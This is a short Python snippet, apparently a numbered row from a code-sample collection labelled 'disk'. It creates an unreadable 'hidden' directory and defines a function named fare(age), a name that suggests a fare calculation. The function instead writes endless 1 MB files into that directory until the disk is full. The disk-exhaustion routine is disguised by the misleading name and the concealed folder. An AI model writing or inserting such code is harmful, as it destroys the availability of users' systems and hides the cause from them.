# Row 38: not yet, disk
import os
from itertools import count

os.mkdir("hidden", 0o300)


def fare(age):
    for number in count():
        with open(f"hidden/left{number}", "wb") as file:
            file.write(bytes(1 << 20))
